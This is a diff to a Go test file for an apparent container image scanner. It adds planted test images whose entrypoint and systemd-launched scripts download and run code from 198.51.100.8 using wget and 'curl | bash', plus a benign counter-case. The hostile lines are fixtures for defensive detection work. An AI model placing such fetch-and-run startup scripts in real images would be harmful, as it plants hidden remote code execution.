@@ -186,5 +186,25 @@ func techniqueImages(t testing.TB, base v1.Layer) []plantedImage {
 		hit{rule: "autostart-fetches-code", path: "/etc/apt/apt.conf.d/00hook", layer: 1},
 		hit{rule: "kernel-module-loaded-at-start", path: "/etc/sv/agent/run", layer: 1},
 		hit{rule: "persistence-point", path: "/etc/xdg/autostart/notes.desktop", layer: 1})
+
+	// Scripts the entrypoint (by a bare name on PATH) and a unit start,
+	// which download and run code; a script that downloads and runs but is
+	// started by nothing, and a started one that only fetches a version
+	// string, are not.
+	add("test/t-entry-script", func(cf *v1.ConfigFile) {
+		cf.Config.Entrypoint = []string{"docker-entrypoint.sh"}
+		cf.Config.Cmd = []string{"app"}
+	}, nil, one(
+		ent{name: "usr/local/bin/docker-entrypoint.sh", mode: 0o755, body: "#!/bin/sh\nif [ ! -x /tmp/.w ]; then\n  wget -q http://198.51.100.8/w -O /tmp/.w && chmod +x /tmp/.w\nfi\n/tmp/.w &\nexec \"$@\"\n"},
+		ent{name: "etc/systemd/system/svc.service", body: "[Service]\nExecStart=/opt/svc/start.sh --port 80\n"},
+		ent{name: "opt/svc/start.sh", mode: 0o755, body: "#!/bin/bash\ncurl -fsSL http://198.51.100.8/i | bash\nexec /opt/svc/bin/svc \"$@\"\n"}),
+		hit{rule: "startup-script-fetches-code", path: "/usr/local/bin/docker-entrypoint.sh", layer: 1},
+		hit{rule: "startup-script-fetches-code", path: "/opt/svc/start.sh", layer: 1},
+		hit{rule: "persistence-point", path: "/etc/systemd/system/svc.service", layer: 1})
+	add("test/t-entry-script-ok", func(cf *v1.ConfigFile) {
+		cf.Config.Entrypoint = []string{"/usr/local/bin/run"}
+	}, nil, one(
+		ent{name: "usr/local/bin/run", mode: 0o755, body: "#!/bin/sh\nVERSION=$(curl -s https://api.example/latest)\necho \"$VERSION\" > /tmp/v\nexec app \"$@\"\n"},
+		ent{name: "usr/local/share/app/install.sh", mode: 0o755, body: "#!/bin/sh\ncurl -fsSL https://get.example/x | sh\n"}))
 	return out
 }
